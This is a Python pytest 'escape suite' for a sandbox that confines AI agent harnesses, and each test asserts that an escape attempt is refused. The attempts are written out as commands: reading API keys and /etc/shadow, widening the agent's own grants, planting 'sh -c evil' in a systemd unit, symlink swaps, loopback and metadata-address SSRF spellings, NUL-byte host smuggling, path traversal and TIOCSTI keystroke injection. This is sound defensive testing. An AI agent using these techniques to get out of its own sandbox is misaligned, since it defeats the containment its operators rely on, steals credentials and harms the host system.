"""The escape suite: every attempt runs inside a real sandbox (bubblewrap, the proxy, the relays),
and every one must be refused. Each is its own test."""

from __future__ import annotations

import os
import pty
import shlex
import shutil
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import MAIN_ID
from helpers import Internet, Link, Listener, Ran, Website
from lnk_sandbox.addresses import this_machine
from lnk_sandbox.runner import Sandbox

from link_plugin.errors import LinkError
from link_plugin.keys import KeyStore
from link_plugin.sandbox import SandboxRequest

KEY = "sk-main-very-secret"


@pytest.fixture
def agent(link: Link) -> Link:
    """main, with keys, a grants file, a machine file and its harness's grants in Link's settings."""
    KeyStore(link.layout.agent_config("main").keys).set("openai", KEY)
    link.grants("main", 'hosts = ["allowed.example"]\n')
    link.machine('name = "here"\n')
    link.harness_grants("mini", "allow = []\n")
    return link


def refused(ran: Ran) -> bool:
    return ran.code != 0


def proxied(link: Link, url: str, *, tunnel: bool = False, **fields: object) -> Ran:
    """curl through the proxy, even to an address its environment would send directly."""
    flags = "-p " if tunnel else ""
    script = (
        f"curl -sS -g -m 10 --noproxy '' -x \"$HTTP_PROXY\" {flags}-o /dev/null -w '%{{http_code}}' {shlex.quote(url)}"
    )
    return link.sh(script, **fields)  # type: ignore[arg-type]


def assert_proxy_refused(ran: Ran, tunnel: bool = False) -> None:
    if tunnel:
        assert ran.code != 0 and "403" in ran.err, ran
    else:
        assert ran.out == "403", ran


def python(code: str) -> list[str]:
    return ["python3", "-c", code]


def connects(address: str, port: int) -> str:
    family = "socket.AF_INET6" if ":" in address else "socket.AF_INET"
    return f"import socket; s = socket.socket({family}); s.settimeout(5); s.connect(({address!r}, {port}))"


# --- Link's settings folder (~/.config/lnk) ---------------------------------------------------


def test_reading_its_settings_is_refused(agent: Link) -> None:
    ran = agent.sh(f"cat {agent.layout.agent_config('main').settings}")
    assert refused(ran) and MAIN_ID not in ran.out


def test_reading_its_keys_is_refused(agent: Link) -> None:
    ran = agent.sh(f"cat {agent.layout.agent_config('main').keys}")
    assert refused(ran) and KEY not in ran.out


def test_reading_the_machine_settings_is_refused(agent: Link) -> None:
    assert refused(agent.sh(f"cat {agent.layout.machine}"))


def test_finding_the_keys_anywhere_it_can_read_is_refused(agent: Link) -> None:
    skip = " ".join(f"--exclude-dir={name}" for name in ("proc", "sys", "dev", "usr", "opt", "root"))
    ran = agent.sh(f"grep -rsl {KEY} / {skip}; env")
    assert KEY not in ran.out


def test_widening_its_own_grants_is_refused(agent: Link) -> None:
    path = agent.layout.agent_config("main").sandbox
    before = path.read_text()
    ran = agent.sh(f'printf \'allow = ["lan", "read-home"]\\n\' > {path}')
    assert refused(ran) and path.read_text() == before


def test_turning_the_machine_switch_is_refused(agent: Link) -> None:
    before = agent.layout.machine.read_text()
    ran = agent.sh(f"echo 'unsandboxed = true' >> {agent.layout.machine}")
    assert refused(ran) and agent.layout.machine.read_text() == before


def test_granting_its_harness_no_sandbox_is_refused(agent: Link) -> None:
    path = agent.layout.harness_grants("mini")
    ran = agent.sh(f"printf 'allow = [\"unsandboxed\"]\\n' > {path}")
    assert refused(ran) and path.read_text() == "allow = []\n"


def test_making_a_settings_folder_afresh_is_refused(agent: Link) -> None:
    config = agent.layout.agent_config("main").root
    ran = agent.sh(f"mkdir -p {config} && printf 'allow = [\"lan\"]\\n' > {config}/sandbox.toml")
    assert refused(ran) and "lan" not in agent.layout.agent_config("main").sandbox.read_text()


def test_settings_stay_hidden_with_read_home(agent: Link) -> None:
    agent.grants("main", 'allow = ["read-home"]\n')
    ran = agent.sh(f"cat {agent.home}/notes.txt && cat {agent.layout.agent_config('main').keys}")
    assert "the owner's own file" in ran.out
    assert refused(ran) and KEY not in ran.out


def test_editing_the_services_units_is_refused_even_with_read_home(agent: Link) -> None:
    units = agent.home / ".config" / "systemd" / "user"
    units.mkdir(parents=True)
    unit = units / f"lnk-agent-{MAIN_ID}.service"
    unit.write_text("[Service]\nExecStart=lnk agent unsandboxed main\n")
    agent.grants("main", 'allow = ["read-home"]\n')
    ran = agent.sh(f"cat {unit} && echo 'ExecStart=sh -c evil' >> {unit}")
    assert "lnk agent unsandboxed" in ran.out
    assert refused(ran) and "evil" not in unit.read_text()


def test_reaching_the_tool_bridge_socket_by_its_path_is_refused(agent: Link) -> None:
    socket_path = agent.layout.tools_socket(MAIN_ID)
    socket_path.parent.mkdir(parents=True, exist_ok=True)
    ran = agent.run(python(f"import socket; socket.socket(socket.AF_UNIX).connect({str(socket_path)!r})"))
    assert refused(ran)


# --- other agents, and what of its own no harness reaches --------------------------------------


def test_reading_another_agents_files_is_refused(agent: Link) -> None:
    ran = agent.sh(f"cat {agent.layout.agent('other').home}/work/secret.txt")
    assert refused(ran) and "secret" not in ran.out


def test_writing_into_another_agents_folder_is_refused(agent: Link) -> None:
    target = agent.layout.agent("other").home / "work" / "planted.txt"
    ran = agent.sh(f"echo planted > {target}")
    assert refused(ran) and not target.exists()


def test_the_agents_folder_shows_only_its_own(agent: Link) -> None:
    ran = agent.sh(f"ls -a {agent.layout.agents}")
    assert ran.code == 0 and "other" not in ran.out.split()


def test_another_agents_folder_stays_hidden_with_read_home(agent: Link) -> None:
    agent.grants("main", 'allow = ["read-home"]\n')
    ran = agent.sh(f"cat {agent.layout.agent('other').home}/work/secret.txt")
    assert refused(ran) and "secret" not in ran.out


def test_dotdot_out_of_its_home_is_refused(agent: Link) -> None:
    home = agent.layout.agent("main").home
    ran = agent.sh(f"cd {home}/work && cat ../../../other/Home/work/secret.txt")
    assert refused(ran) and "secret" not in ran.out


def test_memorys_state_is_hidden_from_the_harness(agent: Link) -> None:
    state = agent.layout.agent("main").memory_state("link")
    state.mkdir(parents=True)
    (state / "index.db").write_text("the index")
    ran = agent.sh(f"cat {state}/index.db")
    assert refused(ran) and "the index" not in ran.out


def test_another_harness_home_of_its_agent_is_hidden(agent: Link) -> None:
    other_home = agent.layout.agent("main").harness_home("openclaw")
    other_home.mkdir(parents=True)
    (other_home / "token").write_text("openclaw's token")
    ran = agent.sh(f"cat {other_home}/token")
    assert refused(ran) and "token" not in ran.out


# --- this machine's loopback and networks, directly ---------------------------------------------


def test_direct_loopback_is_refused(agent: Link, listener: Listener) -> None:
    assert refused(agent.run(python(connects("127.0.0.1", listener.port))))
    assert listener.reached == 0


def test_direct_ipv6_loopback_is_refused(agent: Link, listener: Listener) -> None:
    assert refused(agent.run(python(connects("::1", listener.port))))
    assert listener.reached == 0


def test_direct_unspecified_address_is_refused(agent: Link, listener: Listener) -> None:
    assert refused(agent.run(python(connects("0.0.0.0", listener.port))))
    assert listener.reached == 0


def test_direct_to_this_machines_own_address_is_refused(agent: Link, listener: Listener) -> None:
    own = sorted(str(a) for a in this_machine() if not a.is_loopback and a.version == 4)
    assert own, "this machine has an address besides its loopback"
    assert refused(agent.run(python(connects(own[0], listener.port))))
    assert listener.reached == 0


def test_an_abstract_unix_socket_outside_is_refused(agent: Link) -> None:
    name = f"\0lnk-test-{os.getpid()}"
    server = socket.socket(socket.AF_UNIX)
    server.bind(name)
    server.listen(1)
    try:
        ran = agent.run(python(f"import socket; socket.socket(socket.AF_UNIX).connect({name!r})"))
    finally:
        server.close()
    assert refused(ran)


def test_the_system_bus_and_docker_are_refused(agent: Link) -> None:
    ran = agent.sh("ls /run/dbus/system_bus_socket /var/run/docker.sock /run/user")
    assert refused(ran)


# --- this machine through the proxy, in every spelling ------------------------------------------


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "0.0.0.0",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[::7f00:1]",
        "[::ffff:0:7f00:1]",
    ],
)
def test_this_machine_through_the_proxy_is_refused(agent: Link, listener: Listener, host: str) -> None:
    agent.grants("main", "")
    assert_proxy_refused(proxied(agent, f"http://{host}:{listener.port}/"))
    assert listener.reached == 0


def test_a_tunnel_to_the_loopback_is_refused(agent: Link, listener: Listener) -> None:
    agent.grants("main", f'tcp = ["127.0.0.1:{listener.port}"]\n')
    assert_proxy_refused(proxied(agent, f"http://127.0.0.1:{listener.port}/", tunnel=True), tunnel=True)
    assert listener.reached == 0


def test_this_machines_name_is_refused(agent: Link, listener: Listener) -> None:
    agent.grants("main", f'tcp = ["{socket.gethostname()}:{listener.port}"]\n')
    assert_proxy_refused(proxied(agent, f"http://{socket.gethostname()}:{listener.port}/", tunnel=True), tunnel=True)
    assert listener.reached == 0


def test_a_name_resolving_to_the_loopback_is_refused(agent: Link, listener: Listener) -> None:
    agent.grants("main", f'tcp = ["rebind.example:{listener.port}"]\n')
    internet = Internet({"rebind.example": "127.0.0.1"}, {})
    ran = proxied(agent, f"http://rebind.example:{listener.port}/", tunnel=True, network=internet)
    assert_proxy_refused(ran, tunnel=True)
    assert listener.reached == 0
    assert "this machine (loopback)" in agent.log()


@pytest.mark.parametrize(
    "host",
    [
        "10.0.0.1",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "100.64.0.1",
        "[fd00::1]",
        "[fe80::1]",
        "224.0.0.1",
        "[64:ff9b:1::a00:1]",
    ],
)
def test_private_link_local_and_multicast_networks_are_refused(agent: Link, host: str) -> None:
    agent.grants("main", "")
    assert_proxy_refused(proxied(agent, f"http://{host}/latest/meta-data/"))


def test_a_port_nobody_named_is_refused(agent: Link) -> None:
    assert_proxy_refused(proxied(agent, "http://allowed.example:22/", tunnel=True), tunnel=True)
    assert "isn't a named endpoint" in agent.log()


def test_a_named_endpoint_reaches_only_its_port_and_host(agent: Link) -> None:
    agent.grants("main", 'tcp = ["git.example:22"]\n')
    internet = Internet({"git.example": "93.184.215.14", "other.example": "93.184.215.15"}, {})
    assert_proxy_refused(proxied(agent, "http://git.example:2222/", tunnel=True, network=internet), tunnel=True)
    assert_proxy_refused(proxied(agent, "http://other.example:22/", tunnel=True, network=internet), tunnel=True)


def test_a_host_off_the_list_is_refused(agent: Link) -> None:
    site = Website()
    internet = Internet({"elsewhere.example": "93.184.215.16"}, {("93.184.215.16", 80): site.port})
    try:
        assert_proxy_refused(proxied(agent, "http://elsewhere.example/", network=internet))
    finally:
        site.close()


@pytest.mark.parametrize("form", ["CONNECT {host}:443", "GET http://{host}/"])
def test_a_host_cut_short_by_a_nul_is_refused_before_it_is_judged(agent: Link, form: str) -> None:
    """`*.allowed.example` lists it, a resolver would stop at the NUL: no host at all, so 400."""
    agent.grants("main", 'hosts = ["*.allowed.example"]\n')
    site = Website()
    internet = Internet({"allowed.example": "93.184.215.14"}, {("93.184.215.14", 80): site.port})
    line = form.format(host="93.184.215.14\0.allowed.example")
    poke = (
        "import os, socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        f"s.sendall({line.encode()!r} + b' HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n')\n"
        "print(s.recv(200).split(b' ')[1].decode())\n"
    )
    try:
        ran = agent.run(python(poke), network=internet)
    finally:
        site.close()
    assert ran.out.split() == ["400"], ran
    assert internet.looked_up == [] and site.authorizations == [] and agent.log() == ""


def test_the_network_denied_reaches_no_host(agent: Link) -> None:
    agent.grants("main", 'deny = ["network"]\n')
    internet = Internet({"allowed.example": "93.184.215.14"}, {})
    assert_proxy_refused(proxied(agent, "http://allowed.example/", network=internet))


# --- its files ------------------------------------------------------------------------------------


def test_writing_instructions_kept_read_only_is_refused(agent: Link) -> None:
    agent.grants("main", '[files]\nread = ["instructions"]\n')
    folder = agent.layout.agent("main")
    ran = agent.sh(f"echo evil > {folder.instructions}/evil.md", writes=[str(folder.chats)])
    assert refused(ran) and not (folder.instructions / "evil.md").exists()


def test_writing_home_itself_is_refused_to_a_harness_that_writes_only_its_folders(agent: Link) -> None:
    folder = agent.layout.agent("main")
    ran = agent.sh(f"echo x > {folder.home}/top.md", writes=[str(folder.chats)])
    assert refused(ran) and not (folder.home / "top.md").exists()


def test_a_symlink_out_of_a_writable_folder_reaches_nothing(agent: Link) -> None:
    work = agent.layout.agent("main").home / "work"
    keys = agent.layout.agent_config("main").keys
    ran = agent.sh(f"ln -s {keys} {work}/keys && cat {work}/keys")
    assert refused(ran) and KEY not in ran.out


def test_replacing_one_of_its_folders_with_a_link_is_refused(agent: Link) -> None:
    folder = agent.layout.agent("main")
    for plant in (
        f"rm -rf {folder.instructions} && ln -s {agent.layout.agent('other').home} {folder.instructions}",
        f"mv {folder.home}/work {folder.home}/moved",
    ):
        ran = agent.sh(plant, writes=[str(folder.home)])
        assert refused(ran) and "busy" in ran.err, ran
    exchange = (
        f"import ctypes, os; os.chdir({str(folder.home)!r}); os.symlink('../../../..', 'link');"
        "failed = ctypes.CDLL(None, use_errno=True).renameat2(-100, b'link', -100, b'work', 2);"
        "raise SystemExit(os.strerror(ctypes.get_errno()) if failed else 0)"
    )
    ran = agent.run(python(exchange), writes=[str(folder.home)])
    assert refused(ran) and "busy" in ran.err, ran
    assert folder.instructions.is_dir() and not folder.instructions.is_symlink()
    assert (folder.home / "work").is_dir() and not (folder.home / "work").is_symlink()


def test_a_symlink_left_for_the_next_start_is_refused(agent: Link) -> None:
    """A link where one of its folders should be (left by a harness run without a sandbox, say)."""
    folder = agent.layout.agent("main")
    shutil.rmtree(folder.instructions)
    folder.instructions.symlink_to(agent.layout.agent("other").home)
    agent.grants("main", '[files]\nread = ["instructions"]\n')
    marker = folder.home / "work" / "ran"
    with pytest.raises(LinkError, match="symbolic link"):
        agent.sh(f"touch {marker}", writes=[str(folder.chats)])
    assert not marker.exists()
    ran = agent.cli("run", "--agent", "main", "--", "touch", str(marker))
    assert ran.code == 125 and "symbolic link" in ran.err and "Traceback" not in ran.err, ran
    assert not marker.exists()


def test_a_path_with_dotdot_is_refused(agent: Link) -> None:
    work = agent.layout.agent("main").home / "work"
    with pytest.raises(LinkError, match="'..'"):
        agent.sh("true", reads=[f"{work}/../../../other/Home"])


@pytest.mark.parametrize("name", ["", "Harnesses", "Memory"])
def test_writing_a_folder_that_holds_its_folders_is_refused(agent: Link, name: str) -> None:
    folder = agent.layout.agent("main").root / name
    folder.mkdir(exist_ok=True)
    with pytest.raises(LinkError, match="holds folders each sandbox is shown on its own"):
        agent.sh("true", writes=[str(folder)], mode="tool", harness=None)


def test_a_folder_inside_one_a_sandbox_writes_is_refused(agent: Link) -> None:
    project = agent.layout.agent("main").home / "work" / "project"
    project.mkdir()
    with pytest.raises(LinkError, match="inside a folder a sandbox may write"):
        agent.sh("true", writes=[str(project)])


def test_a_toolchain_leading_into_links_settings_is_refused(agent: Link) -> None:
    (agent.home / ".cargo").mkdir()
    (agent.home / ".cargo" / "bin").symlink_to(agent.layout.config)
    marker = agent.root / "ran"
    with pytest.raises(LinkError, match="leads into Link's own folders"):
        agent.sh(f"touch {marker}")
    assert not marker.exists()


def test_no_descriptor_of_a_folder_reaches_inside(agent: Link) -> None:
    agent.grants("main", 'allow = ["read-home"]\n')
    ran = agent.run(python("import os; print(sorted(os.listdir('/proc/self/fd')))"))
    assert ran.out.strip() == "['0', '1', '2', '3']", ran  # 3: the listing's own


def test_no_descriptor_the_runner_inherited_reaches_inside(agent: Link) -> None:
    # What started `lnk-sandbox run` may have left it a descriptor without close-on-exec (a pipe,
    # a file it opened): bubblewrap keeps whatever it is given, so none may reach it.
    read, write = os.pipe()
    os.set_inheritable(read, True)
    os.set_inheritable(write, True)
    try:
        ran = agent.run(python("import os; print(sorted(os.listdir('/proc/self/fd')))"))
    finally:
        os.close(read)
        os.close(write)
    assert ran.out.strip() == "['0', '1', '2', '3']", ran


def test_a_writable_folder_holding_the_settings_is_refused(agent: Link) -> None:
    marker = agent.root / "ran"
    with pytest.raises(LinkError, match="settings folder"):
        agent.sh(f"mv {agent.home}/.config {agent.home}/moved; touch {marker}", writes=[str(agent.home)])
    assert not marker.exists() and agent.layout.config.is_dir()


def test_a_hard_link_across_the_sandboxs_folders_is_refused(agent: Link) -> None:
    work = agent.layout.agent("main").home / "work"
    ran = agent.sh(f"ln /etc/hostname {work}/hostname")
    assert refused(ran) and not (work / "hostname").exists()


def test_writing_the_system_is_refused(agent: Link) -> None:
    assert refused(agent.sh("echo '127.0.0.1 api.openai.com' >> /etc/hosts"))
    assert refused(agent.sh("touch /usr/bin/planted"))


def test_reading_what_only_root_reads_in_etc_is_refused(agent: Link) -> None:
    ran = agent.sh("cat /etc/shadow")
    assert refused(ran) and "root:" not in ran.out


# --- the proxy itself ----------------------------------------------------------------------------


def test_reconfiguring_the_proxy_through_its_socket_is_refused(agent: Link, listener: Listener) -> None:
    agent.grants("main", "")
    poke = (
        "import socket\n"
        "for request in (b'POST /_link/config HTTP/1.1\\r\\nHost: p\\r\\nContent-Length: 14\\r\\n\\r\\n'"
        " b'{\"localhost\":1}', b'GET /_link/rules HTTP/1.1\\r\\nHost: p\\r\\n\\r\\n',"
        " b'PUT / HTTP/1.1\\r\\nHost: p\\r\\n\\r\\n'):\n"
        "    s = socket.socket(socket.AF_UNIX); s.connect('/run/lnk/out/proxy.sock'); s.sendall(request)\n"
        "    print(s.recv(200).split(b' ')[1].decode())\n"
    )
    ran = agent.run(python(poke))
    assert ran.out.split() == ["403", "403", "403"], ran
    assert_proxy_refused(proxied(agent, f"http://127.0.0.1:{listener.port}/"))
    assert listener.reached == 0


def test_replacing_the_proxys_socket_is_refused(agent: Link) -> None:
    assert refused(agent.sh("rm -f /run/lnk/out/proxy.sock"))
    assert refused(agent.sh("touch /run/lnk/out/other.sock"))
    assert refused(agent.sh("mount --bind /tmp /run/lnk/out"))


def test_a_tool_path_out_of_the_tools_is_refused(agent: Link) -> None:
    script = "curl -sS --path-as-is -o /dev/null -w '%{http_code}' http://127.0.0.1:3128/_link/tools/../../etc/passwd"
    assert agent.sh(script).out == "403"


def test_a_tool_not_given_to_the_agent_is_refused(agent: Link) -> None:
    script = "curl -sS -o /dev/null -w '%{http_code}' http://127.0.0.1:3128/_link/tools/memory-someone/mcp"
    assert agent.sh(script, tools=[f"memory-{MAIN_ID}"]).out == "403"


def test_the_key_never_goes_to_a_host_dressed_as_a_provider(agent: Link) -> None:
    agent.grants("main", "")
    site = Website()
    internet = Internet({"evil.example": "93.184.215.17"}, {("93.184.215.17", 80): site.port})
    try:
        ran = agent.sh(
            "curl -sS -H 'Host: api.openai.com' http://evil.example/v1/chat/completions;"
            "curl -sS -H 'Host: api.openai.com' http://evil.example/echo-headers",
            network=internet,
        )
    finally:
        site.close()
    assert "page for evil.example" in ran.out and KEY not in ran.out
    assert '"key": true' not in agent.log() and site.authorizations == [None, None]


# --- what a process can do ------------------------------------------------------------------------


def test_no_capability_is_left_even_as_root(agent: Link) -> None:
    ran = agent.sh("grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status")
    assert ran.code == 0
    assert all(line.split()[1] == "0000000000000000" for line in ran.out.splitlines()), ran.out


def test_a_user_namespace_of_its_own_is_refused(agent: Link) -> None:
    assert refused(agent.sh("unshare --user --map-root-user true"))


def test_mounting_is_refused(agent: Link) -> None:
    assert refused(agent.sh("mkdir -p /tmp/m && mount -t tmpfs none /tmp/m"))


def test_remounting_the_system_writable_is_refused(agent: Link) -> None:
    assert refused(agent.sh("mount -o remount,rw /usr"))


def test_setting_the_kernels_core_pattern_is_refused(agent: Link) -> None:
    # Writing back what is there: refused as any value would be, and harmless to this machine if not.
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    ran = agent.sh("cat /proc/sys/kernel/core_pattern > /tmp/was && cat /tmp/was > /proc/sys/kernel/core_pattern")
    assert refused(ran) and "Read-only file system" in ran.err
    assert Path("/proc/sys/kernel/core_pattern").read_text() == before


def test_any_kernel_setting_is_refused(agent: Link) -> None:
    ran = agent.sh(
        "for f in /proc/sys/vm/overcommit_ratio /proc/sys/kernel/hostname; do cat $f > /tmp/v; cat /tmp/v > $f; done"
    )
    assert refused(ran) and ran.err.count("Read-only file system") == 2


def test_the_sysrq_trigger_is_refused(agent: Link) -> None:
    assert refused(agent.sh("echo h > /proc/sysrq-trigger"))


def test_the_machines_disks_and_devices_are_refused(agent: Link) -> None:
    ran = agent.sh("ls /dev; cat /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg 2>&1 | head -c 100; ls /sys/class")
    assert refused(ran)
    assert {"vda", "sda", "mem", "kmsg", "nvme0n1"}.isdisjoint(ran.out.split())


def test_chroot_is_refused(agent: Link) -> None:
    assert refused(agent.run(python("import os; os.chroot('/tmp')")))


@pytest.fixture
def outside_process() -> Iterator[subprocess.Popen[bytes]]:
    process = subprocess.Popen(["sleep", "60"])
    yield process
    process.kill()
    process.wait()


def test_killing_a_process_outside_is_refused(agent: Link, outside_process: subprocess.Popen[bytes]) -> None:
    ran = agent.sh(f"kill -9 {outside_process.pid}")
    assert refused(ran) and outside_process.poll() is None


def test_reading_a_process_outside_is_refused(agent: Link, outside_process: subprocess.Popen[bytes]) -> None:
    ran = agent.sh(f"cat /proc/{outside_process.pid}/environ")
    assert refused(ran)
    assert int(agent.sh("ls /proc | grep -c '^[0-9]'").out) < 8


def test_pushing_keystrokes_into_the_terminal_is_refused(agent: Link) -> None:
    master, slave = pty.openpty()
    try:
        code = Sandbox(
            SandboxRequest(
                agent="main",
                harness="mini",
                argv=["python3", "-c", "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b'x')"],
            ),
            agent.layout,
            environ=agent.environ,
            stdin=slave,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        ).run()
    finally:
        os.close(slave)
        os.close(master)
    assert code != 0


@pytest.mark.parametrize("harness", ["../../other", "..", "mini/../../other"])
def test_a_harness_name_walking_out_of_its_folder_is_refused(agent: Link, harness: str) -> None:
    marker = agent.layout.agent("other").root / "Harnesses"
    with pytest.raises(LinkError, match="is not a harness's name"):
        agent.sh("true", harness=harness)
    assert not marker.exists()
    assert agent.cli("harness", "allow", "lan", "--harness", harness).code == 1
